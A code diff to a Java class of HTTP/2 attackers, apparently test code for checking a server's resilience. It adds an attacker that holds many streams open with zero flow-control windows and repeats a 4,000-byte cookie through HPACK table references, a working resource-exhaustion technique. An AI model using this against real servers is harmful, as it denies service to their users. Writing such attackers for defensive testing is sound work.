@@ -23,16 +23,37 @@ final class Http2Attackers {
     private static final byte[] CANCEL = {0, 0, 0, 8};
     private static final int PING_BYTES = 8;
     private static final int PIECE = 10;
+    /** The index of {@code cookie} in the static table. */
+    private static final int COOKIE = 32;
+    /** The table holds 4,096 bytes, with 32 for each field. */
+    private static final int COOKIE_BYTES = 4_000;
+    /** As many as the limit of a header block allows. */
+    private static final int COOKIES = 7;
 
     private Http2Attackers() {}
 
     /** Opens as many streams as allowed, each with a window of 0, so that no response body can be sent. */
     static Attacker windowZero(String path) {
+        var block = Http2Wire.get(path);
+        return stalling(block, block);
+    }
+
+    /** The same, and each stream has a large cookie several times, by references into the HPACK table. */
+    static Attacker repeatedCookies(String path) {
+        var first = new ByteArrayOutputStream();
+        first.writeBytes(Http2Wire.get(path));
+        first.writeBytes(Http2Wire.tabled(COOKIE, "c".repeat(COOKIE_BYTES)));
+        var others = new ByteArrayOutputStream();
+        others.writeBytes(Http2Wire.get(path));
+        others.writeBytes(Http2Wire.fromTable(COOKIES));
+        return stalling(first.toByteArray(), others.toByteArray());
+    }
+
+    private static Attacker stalling(byte[] first, byte[] others) {
         return wire -> {
             var http2 = Http2Wire.open(wire, 0);
-            var block = Http2Wire.get(path);
             for (int n = 0; n < STREAMS; n++) {
-                http2.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, block));
+                http2.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, n == 0 ? first : others));
             }
             wire.skipToEnd();
         };
